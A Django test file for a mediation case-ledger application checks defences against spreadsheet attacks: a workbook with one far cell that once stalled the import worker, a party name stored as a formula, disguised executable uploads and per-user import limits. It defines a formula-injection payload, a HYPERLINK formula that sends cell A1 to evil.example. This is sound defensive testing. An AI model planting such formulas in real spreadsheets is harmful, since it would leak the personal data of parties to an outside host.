"""Issue 13 (3, 4): what an attacker with an import right or a party's name could do to the
spreadsheets — a 5 KB ledger with one far cell once killed the task worker (the job said 导入中
for ever); a party named as a formula was exported as a live formula."""

import io
import zipfile

from django.core.files.base import ContentFile
from django.urls import reverse
from openpyxl import Workbook

from fazhi.cases import ledger
from fazhi.cases.models import ImportJob, ImportStatus
from fazhi.mediation.tests.test_ledger import district, import_rows, row  # noqa: F401 - fixture

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_a_tiny_workbook_with_a_far_cell_fails_with_a_reason(district):  # noqa: F811
    wb = Workbook()
    wb.active["A1"], wb.active["XFD1048576"] = "案号", "x"
    out = io.BytesIO()
    wb.save(out)
    job = ImportJob.objects.create(
        kind="mediation",
        file=ContentFile(out.getvalue(), name="炸弹.xlsx"),
        filename="炸弹.xlsx",
        created_by=district,
    )
    job = ledger.run_import(job)
    assert job.status == ImportStatus.FAILED
    assert "超过上限" in job.error and "1,048,576" in job.error


def test_an_import_that_breaks_off_ends_as_failed_not_running(district, monkeypatch):  # noqa: F811
    def boom(*args, **kwargs):
        raise RuntimeError("disk gone")

    monkeypatch.setattr(ledger, "_import_chunk", boom)
    monkeypatch.setattr(ledger, "_import_row", boom)
    try:
        import_rows(district, [row("CRASH-1")])
    except RuntimeError:
        pass
    job = ImportJob.objects.get(filename="调解台账.xlsx")
    assert job.status == ImportStatus.FAILED and "意外中断" in job.error


def test_a_party_named_as_a_formula_is_exported_as_text(district, client):  # noqa: F811
    from fazhi.cases.models import Party
    from fazhi.core.models import Person

    job = import_rows(district, [row("F-1", 申请人="张某")])
    assert job.created_count == 1, job.rejected
    # as a portal form would have stored it
    Person.objects.filter(name="张某").update(name=EVIL)
    Party.objects.filter(name="张某").update(name=EVIL)
    client.force_login(district)
    response = client.get(reverse("cases:export", args=["mediation"]))
    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
        styles = zf.read("xl/styles.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet  # kept, as text (an inline string)
    assert 'quotePrefix="1"' in styles


def test_the_uploaded_ledger_is_deleted_when_its_import_ends(district):  # noqa: F811
    job = import_rows(district, [row("DEL-1")])
    assert job.created_count == 1
    job.refresh_from_db()
    assert not job.file  # the personal data of the sheet are not kept in clear on disk
    assert job.filename == "调解台账.xlsx"  # what was imported stays on record


def test_uploads_are_checked_by_content_and_limited_per_user(district, client):  # noqa: F811
    from django.core.files.uploadedfile import SimpleUploadedFile

    from fazhi.mediation.tests.test_ledger import workbook

    client.force_login(district)
    url = reverse("cases:import", args=["mediation"])
    fake = SimpleUploadedFile("台账.xlsx", b"MZ\x90\x00 not a workbook" * 100)
    html = client.post(url, {"file": fake}).content.decode()
    assert "可能只是改了扩展名" in html and not ImportJob.objects.exists()
    for i in range(3):  # three waiting (no worker in between in this test)
        ImportJob.objects.create(kind="mediation", filename=f"{i}.xlsx", created_by=district)
    real = SimpleUploadedFile("台账.xlsx", workbook([row("Q-1")]))
    html = client.post(url, {"file": real}).content.decode()
    assert "已有 3 个导入在排队或进行中" in html and ImportJob.objects.count() == 3
